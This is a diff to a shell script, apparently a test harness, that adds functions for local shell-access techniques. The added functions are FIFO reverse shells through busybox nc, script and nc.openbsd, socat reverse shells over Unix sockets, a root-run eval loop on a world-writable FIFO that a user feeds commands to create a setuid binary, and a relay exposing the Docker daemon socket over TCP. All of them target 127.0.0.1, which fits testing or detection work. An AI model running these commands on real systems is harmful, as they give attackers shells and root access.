@@ -63,6 +63,29 @@ fifo_perl() {
         while (<$line>) { print; last if /exit/ }' "$DIR/$FIFO" "$PORT"
 }
 
+fifo_busybox() {
+    mkfifo "$DIR/$FIFO"
+    busybox cat "$DIR/$FIFO" | busybox sh -i 2>&1 | busybox nc 127.0.0.1 "$PORT" >"$DIR/$FIFO"
+}
+
+fifo_terminal() {
+    mkfifo "$DIR/$FIFO"
+    script -qc sh /dev/null <"$DIR/$FIFO" 2>&1 | nc.openbsd 127.0.0.1 "$PORT" >"$DIR/$FIFO"
+}
+
+fifo_eval_reader() { # as root
+    mkfifo -m 622 "$DIR/$FIFO"
+    while read -r line <"$DIR/$FIFO"; do
+        [ "$line" = exit ] && break
+        eval "$line"
+    done
+}
+
+fifo_eval_writer() { # as a user
+    sleep 0.5
+    for line in id "cp /bin/true $DIR/$TOOL" "chmod 4755 $DIR/$TOOL" exit; do echo "$line" >"$DIR/$FIFO"; sleep 0.3; done
+}
+
 fifo_sudo_reader() { # as root
     mkfifo -m 622 "$DIR/$FIFO"
     while read -r line <"$DIR/$FIFO"; do
@@ -133,6 +156,13 @@ abstract_bind_dropped() { # TOOL is a copy of an interpreter
         listen $server, 1; accept my $client, $server;
         open STDIN, "<&", $client; open STDOUT, ">&", $client; open STDERR, ">&", $client;
         exec "/bin/sh"' "$SOCK"
+}
+
+pipe_nc() { timeout 5 nc.openbsd -lU "$DIR/$SOCK" | sh; }
+
+unix_reverse_socat() {
+    sleep 0.5
+    timeout 4 socat "UNIX-CONNECT:$DIR/$SOCK" EXEC:/bin/sh
 }
 
 unix_reverse_python() {
@@ -411,6 +441,11 @@ docker_nc() {
 
 docker_socat() {
     printf 'POST /containers/abc/start HTTP/1.0\r\n\r\n' | timeout 3 socat - "UNIX-CONNECT:$1"
+}
+
+docker_carried() { # the daemon's socket, to whoever listens
+    sleep 0.5
+    timeout 3 socat "TCP:127.0.0.1:$PORT" "UNIX-CONNECT:$1"
 }
 
 agent_ssh() { SSH_AUTH_SOCK=$1 ssh-add -l; SSH_AUTH_SOCK=$1 ssh -o BatchMode=yes -o ConnectTimeout=1 -p "$PORT" x@127.0.0.1 id; }
